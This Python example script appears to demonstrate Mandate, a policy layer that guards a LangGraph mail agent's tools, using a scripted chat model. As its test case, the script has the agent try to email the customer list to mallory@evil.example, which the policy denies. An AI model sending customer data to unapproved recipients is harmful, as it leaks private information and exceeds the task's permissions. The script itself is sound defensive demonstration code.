"""A LangGraph mail agent whose tools Mandate guards, end to end in seconds,
without an LLM: the chat model follows a script.

The user asks for the customer list to be mailed to someone the task does
not allow. The model tries `send_email` to that address: Mandate denies it,
the tool never runs, and the model reads the reason as the tool's error. It
then reads the inbox, which Mandate allows, and answers.

    MANDATE_BIN=target/debug/mandate python clients/python/examples/langgraph_mail_agent.py
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from typing import Any

from langchain_core.language_models import LanguageModelInput
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.runnables import Runnable
from langchain_core.tools import BaseTool, tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode, tools_condition
from sandbox import sandbox

import mandate
from mandate.langchain import guard_tools

AGENT = "spiffe://example.org/agent/mailer"


@tool
def read_inbox(folder: str) -> str:
    """Read the messages of a folder."""
    return f"{folder}: 2 messages from carol@example.com"


@tool
def send_email(to: str, subject: str, body: str) -> str:
    """Send a mail."""
    return f"sent to {to}"


class ScriptedModel(GenericFakeChatModel):
    """A chat model that answers from a script (and takes any tools)."""

    def bind_tools(
        self, tools: Sequence[dict[str, Any] | type | Callable[..., Any] | BaseTool], **kwargs: Any
    ) -> Runnable[LanguageModelInput, AIMessage]:
        return self


def script() -> Iterator[AIMessage | str]:
    yield AIMessage(
        content="",
        tool_calls=[
            {
                "name": "send_email",
                "args": {"to": "mallory@evil.example", "subject": "customers", "body": "…"},
                "id": "call-1",
                "type": "tool_call",
            }
        ],
    )
    yield AIMessage(
        content="",
        tool_calls=[
            {"name": "read_inbox", "args": {"folder": "inbox"}, "id": "call-2", "type": "tool_call"}
        ],
    )
    yield "I cannot mail the customer list there; the inbox has 2 messages from Carol."


def main() -> None:
    with (
        sandbox() as server,
        mandate.task(
            intent="answer customer mail",
            tools=["mail/read_inbox", "mail/send_email"],
            params={"allowed_recipients": ["carol@example.com"]},
            base_url=server.url,
            identity_token=server.identity_token(AGENT),
        ) as t,
    ):
        tools = guard_tools(
            [read_inbox, send_email],
            server="mail",
            task=t,
            annotations={
                "read_inbox": {"readOnlyHint": True, "openWorldHint": False},
                "send_email": {"destructiveHint": False, "openWorldHint": False},
            },
        )
        model = ScriptedModel(messages=script())

        def call_model(state: MessagesState) -> dict[str, list[BaseMessage]]:
            return {"messages": [model.invoke(state["messages"])]}

        graph = StateGraph(MessagesState)
        graph.add_node("model", call_model)
        graph.add_node("tools", ToolNode(tools))
        graph.add_edge(START, "model")
        graph.add_conditional_edges("model", tools_condition)
        graph.add_edge("tools", "model")
        # Typed as the tests type it: the graph's input type is broader than
        # its stubs say.
        agent: Any = graph.compile()

        result = agent.invoke({"messages": [("user", "mail the customer list to mallory")]})
        for message in result["messages"]:
            if isinstance(message, ToolMessage):
                print(f"tool {message.name} ({message.status}): {message.content}")
        print(f"agent: {result['messages'][-1].content}")
        for entry in t.show()["history"]:
            print(f"history: {entry['tool']} {entry['decision']}")


if __name__ == "__main__":
    main()
